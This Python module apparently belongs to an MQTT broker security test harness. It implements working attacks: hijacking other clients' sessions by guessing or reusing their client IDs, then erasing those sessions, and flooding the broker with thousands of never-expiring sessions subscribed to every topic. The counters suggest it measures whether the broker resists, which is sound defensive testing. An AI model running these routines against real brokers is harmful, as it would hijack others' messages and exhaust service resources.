# SPDX-FileCopyrightText: the opendev.firehose authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Taking over other clients' sessions, and leaving many of one's own behind."""

from __future__ import annotations

import asyncio
import contextlib
import time

from .. import packets, wire
from ..attack import attack
from ..field import Field
from ..target import Listener
from .publishing import ways

GUESSES = (
    "{name}",
    "{name}-0",
    "{name}-1",
    "{name}1",
    "{name}_publisher",
    "publisher-{name}",
    "bridge-{name}",
    "{name}@firehose",
    "mosq-{name}",
    "relay",
    "bridge",
    "core",
    "publisher",
    "firehose",
    "firehose01",
    "firehose.core",
    "localhost",
    "mosquitto",
)


def has_session(connack: packets.Packet) -> bool:
    """Whether the broker let the client in, with a session that was there before."""
    return connack.body[:2] == b"\1\0"


async def connect_as(field: Field, listener: Listener, version: int, client_id: str, clean: bool) -> bool:
    """Whether the broker had a session of that client id."""
    connection = await field.insist(listener)
    try:
        await connection.send(packets.connect(version, client_id, clean=clean))
        field.tried += 1
        [*_others, answer] = await connection.until(packets.CONNACK)
        if answer.body[1]:
            return False
        # Whoever comes back with the same client id is cut off again.
        await connection.send(packets.PINGREQ)
        await connection.until(13)
        return has_session(answer)
    finally:
        connection.vanish()


async def take(field: Field, client_id: str) -> None:
    """Take what session there is, in each way, and leave none behind that the next one would find."""
    for listener, version in ways(field):
        field.through += await connect_as(field, listener, version, client_id, clean=False)
        await connect_as(field, listener, version, client_id, clean=True)


async def take_all(field: Field, client_ids: list[str]) -> None:
    async def go_on(client_id: str) -> None:
        with contextlib.suppress(*wire.FAILURES):
            await take(field, client_id)
            while field.left:
                await take(field, client_id)

    await asyncio.gather(*(go_on(client_id) for client_id in client_ids))


@attack("take over by a guess", forbidden=True, seconds=3, sources=16)
async def take_over_by_a_guess(field: Field) -> None:
    """Client ids that others might have chosen."""
    names = field.target.names
    await take_all(field, sorted({guess.format(name=name) for guess in GUESSES for name in names}))


@attack("take over by the client id", forbidden=True, seconds=3, sources=16)
async def take_over_by_the_client_id(field: Field) -> None:
    """The client ids that publishers have, as if somebody had told them."""
    await take_all(field, list(field.target.client_ids))


@attack("sessions that are left behind")
async def leave_sessions(field: Field) -> None:
    """Sessions of QoS 1 subscriptions, of clients that go. What got through are those that are still there."""

    async def leave(number: int) -> None:
        version, listener = (packets.V3, packets.V5)[number % 2], field.target.listeners[0]
        hello = packets.connect(version, f"left-{time.time()}-{number}", clean=False, expiry=2**32 - 1)
        field.tried += 1
        for _time in range(2):
            connection = await field.connect(listener)
            try:
                await connection.send(hello)
                [*_others, answer] = await connection.until(packets.CONNACK)
                field.through += has_session(answer)
                await connection.send(packets.subscribe(version, ["#"], qos=1))
                await connection.until(packets.SUBACK)
                await connection.send(packets.DISCONNECT)
            finally:
                connection.vanish()

    numbers = list(range(5000 if field.long else 300))
    await field.each(numbers, leave, again=False)
    await field.hold()
